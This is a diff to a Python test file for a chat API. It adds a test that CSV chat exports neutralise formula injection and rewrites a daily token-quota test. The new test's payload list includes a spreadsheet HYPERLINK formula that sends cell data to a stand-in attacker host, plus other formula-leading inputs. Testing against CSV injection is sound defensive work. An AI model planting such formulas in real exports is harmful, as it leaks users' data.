@@ -11,7 +11,9 @@ from fastapi.testclient import TestClient
 from sqlalchemy import update
 
 from api.accounts.models import Plan
+from api.gateway.bounds import prompt_ceiling
 from api.main import create_app
+from api.providers.base import ChatMessage
 from tests.support.api import completion_body, db_execute, event_counts, events_of, sign_up
 
 
@@ -72,6 +74,22 @@ def test_chats_can_be_listed_renamed_exported_and_deleted_by_their_owner_only(cl
     assert client.get(f"/api/v1/chats/{chat_id}", headers=ada).status_code == 404
 
 
+def test_a_chat_exported_as_csv_holds_no_formula(client, settings):
+    """A message (the user's, or an answer the user steered) that starts like a formula is made inert."""
+    _roomy(settings)
+    ada = sign_up(client, "ada@example.com")
+    chat_id = uuid.uuid4()
+    payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    for text in payloads:
+        assert _say(client, ada, chat_id, text).status_code == 200
+    exported = client.get(f"/api/v1/chats/{chat_id}/export", headers=ada, params={"format": "csv"}).text
+    rows = list(csv.reader(io.StringIO(exported, newline="")))
+    said = [row[4] for row in rows[1:] if row[1] == "user"]
+    assert said == ["'" + text for text in payloads]
+    assert all(not row[4].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
+    assert [row[3].isdigit() for row in rows[1:]] == [True] * len(rows[1:])  # token counts stay numbers
+
+
 def test_a_failed_first_message_leaves_no_chat(settings):
     faulty = settings.model_copy(update={"mock_faults": True})
     with TestClient(create_app(faulty)) as client:
@@ -98,24 +116,31 @@ def test_the_plan_limits_chats_and_messages_per_chat(client, settings):
 
 @pytest.mark.both_databases  # token quotas: gateway_take on PostgreSQL
 def test_tokens_per_day_are_limited_and_usage_shows_what_remains(client, settings, clock):
-    _roomy(settings, tokens_per_day=50)
+    """A call reserves the most tokens it can use (its prompt's bound and its `max_tokens`) before the
+    provider is called: it is refused when that does not fit in what is left of the day, and the
+    reservation turns into the tokens used when it ends."""
+    _roomy(settings, tokens_per_day=100)
     headers = sign_up(client, "ada@example.com")
-    first = client.post("/v1/chat/completions", headers=headers, json=completion_body()).json()["usage"][
-        "total_tokens"
-    ]
-    assert first < 50 < 2 * first  # room for one call, not for two
-    second = client.post("/v1/chat/completions", headers=headers, json=completion_body())
-    assert second.status_code == 200  # under the limit when it started; it may end past it
-    refused = client.post("/v1/chat/completions", headers=headers, json=completion_body())
+    body = {**completion_body(), "max_tokens": 5}
+    most = prompt_ceiling([ChatMessage("user", body["messages"][0]["content"])]) + 5
+    used, answered = 0, []
+    while used + most <= 100:
+        response = client.post("/v1/chat/completions", headers=headers, json=body)
+        assert response.status_code == 200, response.text
+        answered.append(response.json()["usage"]["total_tokens"])
+        used += answered[-1]
+    assert len(answered) >= 2 and all(tokens < most for tokens in answered)
+    refused = client.post("/v1/chat/completions", headers=headers, json=body)
     assert refused.status_code == 429 and refused.json()["error"]["code"] == "quota_exceeded"
     assert refused.json()["error"]["metric"] == "tokens_per_day"
+    assert f"may use up to {most}" in refused.json()["error"]["message"]
     until_midnight = clock.next_midnight() - clock.now()
     assert int(refused.headers["Retry-After"]) == until_midnight.total_seconds()
     usage = client.get("/api/v1/me/usage", headers=headers).json()
     assert usage["plan"] == "free"
-    assert usage["requests_today"]["used"] == 2 and usage["requests_today"]["limit"] == 100
-    assert usage["tokens_today"]["used"] == 2 * first and usage["tokens_today"]["remaining"] == 0
-    assert usage["tokens_this_month"]["used"] == 2 * first
+    assert usage["requests_today"]["used"] == len(answered) and usage["requests_today"]["limit"] == 100
+    assert usage["tokens_today"]["used"] == used and usage["tokens_today"]["remaining"] == 100 - used
+    assert usage["tokens_this_month"]["used"] == used
     assert usage["requests_today"]["resets_at"] == f"{clock.next_midnight():%Y-%m-%dT%H:%M:%SZ}"
 
 
